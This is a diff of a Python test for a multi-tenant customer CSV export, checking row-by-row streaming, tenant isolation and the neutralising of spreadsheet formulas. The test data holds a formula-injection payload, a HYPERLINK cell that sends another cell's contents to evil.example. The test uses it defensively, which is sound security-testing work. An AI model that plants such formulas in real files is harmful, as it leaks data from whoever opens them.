@@ -224,13 +224,20 @@ def test_export_is_for_managers_and_holds_only_this_tenant(client, tenant_a, ten
     assert "Doe" in text and "Bravo" not in text
 
 
-def test_export_streams_with_formula_cells_neutralised_and_only_this_tenant(client, tenant_a, tenant_b):
+def test_export_streams_with_formula_cells_neutralised_and_only_this_tenant(client, tenant_a, tenant_b,
+                                                                           monkeypatch):
+    from app.services import customer_csv
+
+    monkeypatch.setattr(customer_csv, "EXPORT_CHUNK_ROWS", 1)
     _create(client, tenant_a, first_name='=HYPERLINK("http://evil.example/?x="&A2,"Click")', email=None,
             phone="+44 20 7946 0000")
+    _create(client, tenant_a, first_name="Plain", email=None, phone=None)
     _create(client, tenant_b, last_name="Bravo", first_name="=Bravo")
-    r = client.get("/api/v1/customers/export", headers=tenant_a.headers(Role.MANAGER))
-    assert r.status_code == 200 and r.is_streamed
-    text = r.get_data(as_text=True)
+    r = client.get("/api/v1/customers/export", headers=tenant_a.headers(Role.MANAGER), buffered=False)
+    assert r.status_code == 200
+    chunks = [chunk for chunk in r.response if chunk]  # one piece per row: the body was never built whole
+    assert len(chunks) == 2
+    text = b"".join(chunks).decode()
     assert "\"'=HYPERLINK(\"\"http://evil.example" in text and ",'+442079460000," in text
     assert "Bravo" not in text
 
